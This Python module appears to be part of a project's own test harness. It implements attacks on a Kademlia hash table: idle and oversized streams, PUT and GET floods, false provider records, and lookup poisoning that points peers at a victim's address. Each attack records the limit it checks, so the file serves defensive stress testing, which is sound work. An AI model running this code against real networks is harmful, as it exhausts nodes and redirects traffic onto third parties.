"""Attacks on the hash table: on who keeps it, and by it on whoever is told of."""

from __future__ import annotations

import hashlib
import itertools
import secrets
from collections.abc import Iterator
from contextlib import suppress
from typing import ClassVar, Final

import trio
import trio.lowlevel

from p2pboot.core.identity import SecretKey
from p2pboot.dht.keys import manifest_key, pair_key
from p2pboot.transport.addresses import parse_address
from p2pboot.transport.interface import Stream as OpenStream
from p2pboot.transport.interface import StreamReset
from p2pboot.transport.multiaddrs import encode_multiaddr
from p2pboot.wire.kad import (
    KAD_PROTOCOL,
    MAX_FRAME,
    MAX_VALUE,
    KadPeer,
    Message,
    MessageReader,
    MessageType,
    Record,
    encode_message,
)
from p2pboot.wire.varint import encode_varint
from siege.asker import Asker
from siege.attack import Attack
from siege.listener import Listener
from siege.peer import Peer
from siege.replies import KadReplies
from siege.target import ARCH, CHANNEL

_KEY: Final = manifest_key(CHANNEL, ARCH)


def _put(key: bytes, value: bytes) -> bytes:
    return encode_message(Message(MessageType.PUT_VALUE, key, Record(key, value)))


def _stranger(host: str, port: int = 4001) -> KadPeer:
    """A peer that nobody is, at somebody's address."""
    address = encode_multiaddr(parse_address(f"/ip4/{host}/tcp/{port}"))
    return KadPeer(SecretKey(secrets.token_bytes(32)).public.peer_id_bytes, (address,))


class IdleStreams(Attack):
    name = "dht-idle"
    what = "64 ids of one address open 16 streams of the hash table each, and say nothing"
    bound = "ten seconds for a request; slots of streams by address, the idlest goes"
    shows = "streams"
    connections = 64
    begins: ClassVar[tuple[bytes, ...]] = (b"",)

    async def one(self, number: int) -> None:
        async with self.peer(number) as peer, trio.open_nursery() as nursery:
            for begin in itertools.islice(itertools.cycle(self.begins), 16):
                nursery.start_soon(self._hold, peer, begin)

    async def _hold(self, peer: Peer, begin: bytes) -> None:
        while True:
            stream = await peer.open(KAD_PROTOCOL, begin)
            self.count("streams")
            await stream.ended()
            self.count("reset")
            await trio.sleep(1)


class Unfinished(IdleStreams):
    name = "dht-unfinished"
    what = "the same, who send all of a message of 64 KiB but its end"
    bound = "the same; bytes of requests that have not arrived wholly"
    begins = (encode_varint(MAX_FRAME) + bytes(MAX_FRAME - 1),)


class Large(IdleStreams):
    name = "dht-large"
    what = "the same, with values of 4 KiB and a byte, and messages that are said to be of 4 MiB"
    bound = "a value of 4 KiB, a message of 64 KiB: what is said to be longer is not read"
    begins = (_put(b"large", bytes(MAX_VALUE + 1)), encode_varint(4 << 20) + bytes(1000))


class _Crowd(Asker):
    protocol = KAD_PROTOCOL
    replies = KadReplies

    async def one(self, number: int) -> None:
        async with self.peer(number, key=self.key(number)) as peer:
            while True:
                with suppress(EOFError):  # it refuses by a reset
                    await self.ask(peer, self.questions(number))
                self.count("reset")
                await trio.lowlevel.checkpoint()

    def key(self, number: int) -> SecretKey:
        """Of one connection, always the same."""
        return SecretKey(hashlib.sha256(b"%s %d" % (self.name.encode(), number)).digest())


class Puts(_Crowd):
    name = "dht-puts"
    what = "64 ids of one address put 50,000 values of 4 KiB, each under another key"
    bound = "1,000 values, of one address a quarter; requests by address"
    shows = "put_value"
    connections = 64

    def questions(self, number: int) -> Iterator[bytes]:
        keys = itertools.cycle(range(50_000 // self.connections))
        return (_put(b"%d of %d" % (key, number), bytes(MAX_VALUE)) for key in keys)


class Gets(_Crowd):
    name = "dht-gets"
    what = "64 ids from four addresses put a value of 4 KiB under the manifest's key, and ask for all without pause"
    bound = "requests by address; 64 KiB of a reply; the node's own value comes first"
    shows = "get_value"
    connections, addresses = 64, 4

    def questions(self, number: int) -> Iterator[bytes]:
        yield _put(_KEY, b"%d" % number + bytes(MAX_VALUE - 8))
        yield from itertools.repeat(encode_message(Message(MessageType.GET_VALUE, _KEY)))


class Providers(_Crowd):
    name = "dht-providers"
    what = "64 ids from four addresses say that they have everything, at a victim's address, and that others have it"
    bound = (
        "who says it of others is passed over; 4,000 records, of one address a quarter; requests by address"
    )
    shows = "get_providers"
    connections, addresses = 64, 4

    def questions(self, number: int) -> Iterator[bytes]:
        own = self.key(number).public.peer_id_bytes
        while True:
            for key in (pair_key(CHANNEL, ARCH), b"\x12\x20" + secrets.token_bytes(32)):
                told = KadPeer(own, _stranger(self.victim).addresses), _stranger(self.victim)
                said = (Message(MessageType.ADD_PROVIDER, key, providers=(one,)) for one in told)
                asked = Message(MessageType.GET_PROVIDERS, key)
                yield b"".join(map(encode_message, (*said, asked)))


class Poison(Listener):
    name = "dht-poison"
    what = (
        "16 servers of four addresses tell of twenty peers in each answer, all of them at a victim's address"
    )
    bound = "peers asked in a lookup; who tells of nobody is asked for others last"
    shows = "asked"
    connections, addresses = 16, 4
    protocol = KAD_PROTOCOL

    async def run(self) -> None:
        async with trio.open_nursery() as nursery:
            (listener,) = await trio.open_tcp_listeners(0, host=self.victim)
            self._port = listener.socket.getsockname()[1]
            nursery.start_soon(trio.serve_listeners, self._be_dialled, [listener])
            await super().run()

    async def _be_dialled(self, _sock: trio.SocketStream) -> None:
        self.count("victim was dialled")

    async def serve(self, stream: OpenStream) -> None:
        reader = MessageReader()
        with suppress(StreamReset):
            while data := await stream.read(16 * 1024):
                reader.receive(data)
                while (request := reader.next()) is not None:
                    self.count("asked")
                    told = tuple(_stranger(self.victim, self._port) for _ in range(20))
                    lie = Message(request.type, request.key, closer=told, providers=told)
                    if request.type is not MessageType.ADD_PROVIDER:
                        await stream.write(encode_message(lie))


ATTACKS = (IdleStreams, Unfinished, Large, Puts, Gets, Providers, Poison)
